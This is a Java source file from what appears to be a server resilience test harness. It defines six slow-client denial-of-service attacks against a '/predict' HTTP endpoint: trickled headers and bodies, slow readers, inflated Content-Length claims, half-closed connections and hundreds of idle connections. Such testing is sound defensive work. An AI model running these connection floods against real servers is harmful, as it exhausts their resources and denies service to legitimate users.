package io.github.vertexj.attack;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

/** Clients that hold what they have taken, and take their time. */
final class SlowClients {
  private static final int CONNECTIONS = 300;
  private static final int IDLE_CONNECTIONS = 1000;
  private static final int EACH = 160;

  /** From the largest body to the smallest: whatever a budget has left, one of them fits. */
  private static final int[] ANNOUNCED = {10 << 20, 1 << 20, 128 << 10, 16 << 10, 2 << 10, 256, 32};

  private static final byte[] NOTHING = {};

  private SlowClients() {}

  static List<Attack> all() {
    return List.of(
        Attack.survivable("slow/heads", SlowClients::heads),
        Attack.survivable("slow/bodies", SlowClients::bodies),
        Attack.survivable("slow/readers", SlowClients::readers),
        Attack.survivable("slow/announced", SlowClients::announced),
        Attack.survivable("slow/half-closed", SlowClients::halfClosed),
        Attack.survivable("slow/idle", SlowClients::idle));
  }

  private static void heads(Target target, Duration time) throws InterruptedException {
    byte[] beginning = Target.bytes("POST /predict HTTP/1.1\r\nX-Slow: ");
    siege(target, CONNECTIONS, beginning, time);
  }

  private static void bodies(Target target, Duration time) throws InterruptedException {
    siege(target, CONNECTIONS, Target.head("application/json", "Content-Length: 100000"), time);
  }

  private static void siege(Target target, int connections, byte[] first, Duration time)
      throws InterruptedException {
    try (Siege siege = new Siege(target)) {
      for (int i = 0; i < connections; i++) {
        siege.open(first);
      }
      siege.hold(time, Target.bytes(" "));
    }
  }

  private static void readers(Target target, Duration time) throws InterruptedException {
    byte[] body = "{\"instances\":[{\"reply\":200000}]}".getBytes(StandardCharsets.US_ASCII);
    try (Siege siege = new Siege(target)) {
      for (int i = 0; i < CONNECTIONS / 3; i++) {
        siege.open(Target.head("application/json", "Content-Length: " + body.length));
      }
      siege.hold(Duration.ofMillis(1), body);
      siege.sip(time);
    }
  }

  private static void announced(Target target, Duration time) throws InterruptedException {
    try (Siege siege = new Siege(target)) {
      for (int length : ANNOUNCED) {
        for (int i = 0; i < EACH; i++) {
          siege.open(
              Target.bytes(
                  new String(
                          Target.head("application/json", "Content-Length: " + length),
                          StandardCharsets.US_ASCII)
                      + "{"));
        }
      }
      siege.hold(time, NOTHING);
    }
  }

  private static void halfClosed(Target target, Duration time) throws InterruptedException {
    try (Siege siege = new Siege(target)) {
      for (int i = 0; i < CONNECTIONS; i++) {
        siege.open(Target.head("application/json", "Content-Length: " + (i % 2 == 0 ? 0 : 1000)));
      }
      siege.halfClose();
      siege.hold(time, NOTHING);
    }
  }

  private static void idle(Target target, Duration time) throws InterruptedException {
    try (Siege siege = new Siege(target)) {
      for (int i = 0; i < IDLE_CONNECTIONS; i++) {
        siege.open(NOTHING);
      }
      siege.hold(time, NOTHING);
    }
  }
}
